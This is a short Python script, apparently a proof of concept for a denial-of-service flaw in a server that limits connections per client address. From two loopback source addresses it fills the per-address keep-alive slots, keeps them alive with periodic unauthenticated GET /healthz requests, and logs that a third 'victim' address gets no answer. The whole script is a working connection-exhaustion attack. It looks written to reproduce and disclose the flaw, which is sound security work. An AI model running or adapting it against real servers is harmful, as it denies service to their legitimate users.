#!/usr/bin/env python3
"""Two client addresses each take their max_connections_per_address keep-alive slots, refresh them
with an unauthenticated GET /healthz every 20 s, and a third address is locked out."""
import socket, sys, time, threading
port = int(sys.argv[1]); per = int(sys.argv[2]); duration = int(sys.argv[3])
socks = []
def open_slot(src):
    s = socket.create_connection(("127.0.0.1", port), source_address=(src, 0))
    s.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n"); s.settimeout(5); s.recv(4096)
    return s
for src in ("127.0.0.2", "127.0.0.3"):
    for _ in range(per):
        socks.append(open_slot(src))
print(f"holding {len(socks)} keep-alive connections from 127.0.0.2 and 127.0.0.3", flush=True)
def refresh():
    while True:
        time.sleep(20)
        for s in socks:
            try:
                s.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n"); s.recv(4096)
            except Exception as e:
                print("refresh failed", e, flush=True)
threading.Thread(target=refresh, daemon=True).start()
start = time.time()
while time.time() - start < duration:
    t = time.time()
    try:
        v = socket.create_connection(("127.0.0.1", port), source_address=("127.0.0.4", 0), timeout=5)
        v.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        v.settimeout(8)
        data = v.recv(4096)
        print(f"t={t-start:5.1f}s victim 127.0.0.4: {data[:15]!r} after {time.time()-t:.1f}s", flush=True)
    except Exception as e:
        print(f"t={t-start:5.1f}s victim 127.0.0.4: no answer ({e.__class__.__name__}) after {time.time()-t:.1f}s", flush=True)
    time.sleep(2)
